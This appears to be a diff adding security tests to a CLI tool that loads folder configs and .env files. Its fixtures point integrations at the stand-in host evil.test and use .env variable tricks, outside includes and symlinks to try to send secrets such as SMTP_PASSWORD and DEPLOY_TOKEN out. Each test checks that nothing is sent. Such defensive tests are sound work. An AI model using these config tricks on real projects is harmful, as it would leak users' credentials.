@@ -7,7 +7,7 @@ import { describe, expect, onTestFinished, test } from 'vitest';
 import { check } from '../../../src/cli/commands/check.ts';
 import { diagnoseCommand } from '../../../src/cli/commands/diagnose.ts';
 import { init } from '../../../src/cli/commands/init.ts';
-import { acting, loadFor } from '../../../src/cli/terminal/config.ts';
+import { asDaemon, loadFor } from '../../../src/cli/terminal/config.ts';
 import { UserError } from '../../../src/cli/terminal/io.ts';
 import { exists } from '../../../src/io/files.ts';
 import { makeFolder } from '../../config/folder.ts';
@@ -259,6 +259,80 @@ describe('a config of the folder that names hosts', () => {
     expect(thief.bytes()).toBe(0);
   });
 
+  const relay = `env_file: .env\nintegrations:\n  - { id: a, ${smtp.replace('REF', '{ env: X }')} }\n`;
+  const server =
+    'env_file: .env\nintegrations:\n  - { id: a, provider: http, key: { env: X }, http: { url: "https://evil.test:PORT/" } }\n';
+  test.each([
+    ['a variable by its name', relay, 'X=$SMTP_PASSWORD\n'],
+    ['a variable in braces', relay, 'X=$' + '{SMTP_PASSWORD}\n'],
+    ['a variable with a default', relay, 'X=$' + '{DEPLOY_TOKEN:-none}\n'],
+    ['a variable within other text', relay, 'X="a-$' + '{DEPLOY_TOKEN}-z"\n'],
+    ['a variable of a variable', relay, 'A=$' + '{DEPLOY_TOKEN}\nB=x$A\nC=$' + '{A}\nX=$C\n'],
+    ['a variable that is set later', relay, 'X=$' + '{DEPLOY_TOKEN}\nDEPLOY_TOKEN=decoy\n'],
+    ['a key without a shape', server, 'export X=$' + '{MAIL_PASSWORD}\n'],
+  ])('%s in its .env: what is made of ours is ours', async (_, text, dotenv) => {
+    const thief = await openThief();
+    const files = { 'keymedic.yaml': text.replaceAll('PORT', '{port}'), '.env': dotenv };
+    const folder = await makeStrange(files, thief.port);
+    const { io } = collect(folder, { ...ours, HOME: await makeFolder({}) });
+    await expect(diagnoseCommand([], options(thief.port), io)).rejects.toThrow('name it if that is wanted: --config');
+    expect(thief.bytes()).toBe(0);
+  });
+
+  test.each([
+    ['its own variables', 'A=x-own-1\nX=$' + '{A}\n'],
+    ['what stands in single quotes', "X='$" + "{DEPLOY_TOKEN}'\n"],
+    ['a default', 'X=$' + '{NOT_SET:-x-own-1}\n'],
+  ])('a variable of its .env that is made of %s is its own', async (_, dotenv) => {
+    const folder = await makeFolder({ 'keymedic.yaml': relay.replaceAll('PORT', '587'), '.env': dotenv });
+    expect((await loadFor(collect(folder, ours).io, undefined)).config).toBeDefined();
+  });
+
+  test.each([
+    ['https://api.sendgrid.com', true],
+    ['https://api.eu.sendgrid.com/', true],
+    ['https://API.sendgrid.com:443', true],
+    ['smtp://smtp.sendgrid.net:2525', true],
+    ['smtps://smtp.sendgrid.net:465', true],
+    ['http://api.sendgrid.com', false],
+    ['HTTP://api.sendgrid.com:443', false],
+    ['https://api.sendgrid.com:8443', false],
+    ['https://other.sendgrid.com', false],
+    ['smtp://api.sendgrid.com', false],
+  ])('the endpoint %s is the whole base URL of the list: %s', async (endpoint, isListed) => {
+    const credential = endpoint.startsWith('smtp')
+      ? 'credential: { username: apikey, password: { env: SENDGRID_API_KEY } }'
+      : 'key: { env: SENDGRID_API_KEY }';
+    const text = `integrations:\n  - { id: a, provider: sendgrid, ${credential}, endpoint: "${endpoint}" }\n`;
+    const { io } = collect(await makeFolder({ 'keymedic.yaml': text }), { ...ours });
+    expect((await loadFor(io, undefined)).config !== undefined).toBe(isListed);
+  });
+
+  test.each([
+    ['by its whole path', '{outside}'],
+    ['above it', '../theirs.yaml'],
+    ['by a link', 'link.yaml'],
+    ['by a pattern, through a link', 'd/*.yaml'],
+  ])('an included file outside the folder is not read, %s', async (_, pattern) => {
+    const thief = await openThief();
+    const text = `include: ["${pattern}"]\ndefaults: { endpoint: "https://evil.test:{port}" }\nintegrations: []\n`;
+    const folder = await makeStrange({ 'keymedic.yaml': text }, thief.port);
+    const theirs = JSON.stringify({ integrations: [{ id: 'z', provider: 'braze', key: uuid }] });
+    await mkdir(join(folder, '..', 'there'));
+    for (const name of ['theirs.yaml', 'outside.txt', 'there/a.yaml'])
+      await writeFile(join(folder, '..', name), theirs);
+    await symlink('../theirs.yaml', join(folder, 'link.yaml'));
+    await symlink('../there', join(folder, 'd'));
+    const { io } = collect(folder, { HOME: await makeFolder({}) });
+    await expect(diagnoseCommand([], options(thief.port), io)).rejects.toThrow('from files outside the folder');
+    expect(thief.bytes()).toBe(0);
+  });
+
+  test('an included file of the folder is read', async () => {
+    const files = { 'keymedic.yaml': 'include: ["d/*.yaml"]\n', 'd/a.yaml': 'integrations: []\n' };
+    expect((await loadFor(collect(await makeFolder(files)).io, undefined)).config).toBeDefined();
+  });
+
   test('an address of this machine is nobody else, and the daemon is started for its hosts', async () => {
     const near = `integrations:\n  - { id: a, provider: smtp, endpoint: "smtp://127.0.0.1:1", credential: { username: me, password: { env: SMTP_PASSWORD } } }\n`;
     const { io } = collect(await makeFolder({ 'keymedic.yaml': near }), { ...ours });
@@ -266,7 +340,7 @@ describe('a config of the folder that names hosts', () => {
     const far = near.replace('127.0.0.1', 'mail.example.com');
     const other = collect(await makeFolder({ 'keymedic.yaml': far }), { ...ours }).io;
     expect((await loadFor(other, undefined)).config).toBeUndefined();
-    expect((await loadFor(other, undefined, acting)).config).toBeDefined();
+    expect((await loadFor(other, undefined, asDaemon)).config).toBeDefined();
   });
 
   test.each([
